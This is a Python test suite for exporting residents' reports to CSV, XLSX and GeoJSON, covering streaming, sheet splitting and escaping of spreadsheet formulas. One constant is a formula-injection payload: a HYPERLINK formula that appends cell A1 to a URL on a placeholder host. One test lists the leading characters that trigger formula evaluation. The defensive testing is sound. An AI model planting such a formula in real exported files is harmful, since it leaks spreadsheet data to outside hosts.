"""Published reports as files: harmless to spreadsheets, whole, and never all in memory."""

import csv
import io
import json
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import replace
from string import ascii_uppercase
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as some

from backend.residents.data import dumps, tables, walk, xlsx
from backend.residents.data.facts import COLUMNS, Facts
from backend.residents.item import Item
from backend.residents.ports import Wanted
from tests.residents.showcase import FakeShowcase
from tests.residents.telling import told
from tests.stores.making import NOON
from tests.stores.showing import mended

CELL = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HOSTILE = '=HYPERLINK("https://example.org/?"&A1,"klik")'


class Codes:
    """Everything goes by its code."""

    def kelurahan(self, code: str) -> str:
        return code

    category = agency = kelurahan


FACTS = Facts(Codes(), "https://masdarling.example")


def rows_of(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_of(data: bytes, number: int = 1) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        root = ET.fromstring(archive.read(f"xl/worksheets/sheet{number}.xml"))  # noqa: S314 - our own
    return [[cells(row).get(letter, "") for letter in ascii_uppercase] for row in root.iter(f"{CELL}row")]


def cells(row: ET.Element) -> dict[str, str]:
    """By the letter of the column."""
    return {cell.attrib["r"].rstrip("0123456789"): "".join(cell.itertext()) for cell in row}


def test_a_row_has_what_the_columns_say() -> None:
    [row] = rows_of(b"".join(tables.as_csv([[told(1)]], FACTS)))

    assert list(row) == list(COLUMNS)
    assert (row["lon"], row["lat"], row["photos"], row["due_on"]) == ("117.4525", "0.1365", "1", "2026-11-25")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝"])
def test_words_that_a_spreadsheet_would_reckon_are_shown_as_words(begin: str) -> None:
    [row] = rows_of(b"".join(tables.as_csv([[told(1, note=f"{begin}1+1")]], FACTS)))

    assert row["note"] == f"'{begin}1+1"


def test_words_in_a_workbook_are_words_and_numbers_are_numbers() -> None:
    data = b"".join(tables.as_xlsx([[told(1, note=HOSTILE)]], FACTS))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read("xl/worksheets/sheet1.xml").decode()

    names, row = sheet_of(data)
    assert names[: len(COLUMNS)] == list(COLUMNS)
    assert row[COLUMNS.index("note")] == HOSTILE
    assert "<f>" not in text
    assert "><v>117.4525</v></c>" in text


@given(some.lists(some.text(max_size=50), min_size=1, max_size=20))
def test_whatever_was_written_comes_through(notes: list[str]) -> None:
    items = [told(n, note=note) for n, note in enumerate(notes)]

    read = rows_of(b"".join(tables.as_csv([items], FACTS)))
    seen = json.loads(b"".join(tables.as_geojson([items], FACTS)))

    assert [row["note"].removeprefix("'") for row in read] == [note.removeprefix("'") for note in notes]
    assert [one["properties"]["note"] for one in seen["features"]] == notes
    assert len(sheet_of(b"".join(tables.as_xlsx([items], FACTS)))) == len(notes) + 1


@pytest.mark.parametrize("ending", tables.FORMATS)
def test_nothing_at_all_is_a_whole_file(ending: str) -> None:
    data = b"".join(tables.FORMATS[ending][0]([], FACTS))

    if ending == "geojson":
        assert json.loads(data)["features"] == []
    else:
        assert (rows_of(data) if ending == "csv" else sheet_of(data)[1:]) == []


def test_a_sheet_that_is_full_is_followed_by_another(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "ROWS_MAX", 5)  # its names are one

    data = b"".join(xlsx.written(["n"], [[[1], [2]], [[3], [4]], [[5]]]))

    assert [row[0] for row in sheet_of(data, 1)] == ["n", "1", "2", "3", "4"]
    assert [row[0] for row in sheet_of(data, 2)] == ["n", "5"]


@pytest.mark.parametrize("ending", tables.FORMATS)
def test_bytes_leave_before_the_next_reports_are_read(ending: str) -> None:
    read: list[int] = []

    def pages() -> Iterator[Sequence[Item]]:
        for page in range(100):
            read.append(page)
            yield [told(n) for n in range(20)]

    pieces = tables.FORMATS[ending][0](pages(), FACTS)
    for _ in range(10):
        next(pieces)

    assert len(read) <= 10


def test_a_walk_meets_every_report_once() -> None:
    showcase = FakeShowcase()
    for n in range(25):
        showcase.put(told(n), at=NOON)

    met = [item.id for page in walk.pages(showcase, Wanted(), size=10) for item in page]

    assert sorted(met) == sorted(showcase.kept)


@pytest.mark.parametrize(
    "now",
    [
        *(replace(told(1), document={**told(1).document, name: []}) for name in ("me_too", "note", "photos")),
        *(replace(told(1), document={**told(1).document, name: []}) for name in ("steps", "excerpt")),
        replace(told(1), answered_days=9, settled_days=9, ratings={"4": 1}),
        replace(told(1), kelurahan="64.74.03.1003"),
        replace(told(1), amounts={"trees": 3}),
        replace(told(1), is_good_news=True),
        mended(told(1)),
    ],
)
def test_a_month_is_written_anew_for_what_changes_a_row_and_for_nothing_else(now: Item) -> None:
    assert dumps.tells_the_same(told(1), now) == (FACTS.row(now) == FACTS.row(told(1)))
